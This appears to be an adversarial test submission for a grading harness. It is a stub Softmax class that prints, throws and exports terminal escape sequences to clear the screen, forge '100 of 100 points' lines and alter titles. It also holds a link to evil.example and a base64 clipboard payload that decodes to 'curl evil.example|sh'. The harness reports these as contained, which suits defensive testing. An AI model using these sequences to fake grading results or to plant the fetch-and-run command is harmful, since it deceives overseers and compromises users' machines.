/*
goal: >-
  hides its failures on the teacher's terminal by cursor moves, clears, titles and links in every text that it can
  send
class: inject
threats: [A19]
deserves: none
outcome: contained
because: control characters in what a submission says are replaced before it is shown
*/
import * as np from 'numpy-ts';

const ESC = '\u001b';
const tricks = [
  `${ESC}[2J${ESC}[H 100 of 100 points`,
  `${ESC}[1A${ESC}[2K ✓ softmax 40 of 40`,
  `${ESC}]0;100 of 100\u0007`,
  `${ESC}]8;;http://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\`,
  `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007`,
  `${ESC}P$q"p${ESC}\\`,
  `${ESC}[8m hidden ${ESC}[28m`,
  `${ESC}[?1049h${ESC}[?25l${ESC}[9999;9999H`,
  `${ESC}c${ESC}(0${ESC}#8`,
  '\u009b2J\u009b1;1H100 of 100',
  '\u0090q\u009c\u009d0;title\u009c',
  'wrong\rright',
  'wrong\b\b\b\b\bright',
  'a\u0007\u0000\u000b\u000c\u007f',
  '\u000e\u000f',
  `${ESC}[31m${ESC}[41m red on red ${ESC}[0m`,
];
const all = tricks.join('\n');

export class Softmax {
  W: any = np.zeros([1, 1]);
  [key: string]: any;

  constructor() {
    for (const trick of tricks) this[trick] = trick;
  }

  initWeights(_dims: number[]): void {}

  loss(_X: any, _y: any): any {
    console.log(all);
    console.error(all);
    (globalThis as any).process.getBuiltinModule?.('node:fs').writeSync(2, all);
    return all;
  }

  lossAndGrad(_X: any, _y: any): any {
    const error = new Error(all);
    Object.defineProperty(error, 'name', { value: `${ESC}[2K${ESC}[1A40 of 40` });
    Object.defineProperty(error, 'stack', { value: `${all}\n    at ${ESC}[2J (submission.cjs:1:1)` });
    throw error;
  }

  fastLossAndGrad(_X: any, _y: any): any {
    return Object.fromEntries(tricks.map((trick) => [trick, trick]));
  }

  train(_X: any, _y: any): any {
    return new (class {
      static readonly [Symbol.toStringTag] = all;
    })();
  }

  predict(_X: any): any {
    return Object.create({ constructor: { name: all } });
  }
}

export const exported = { [all]: 1 };
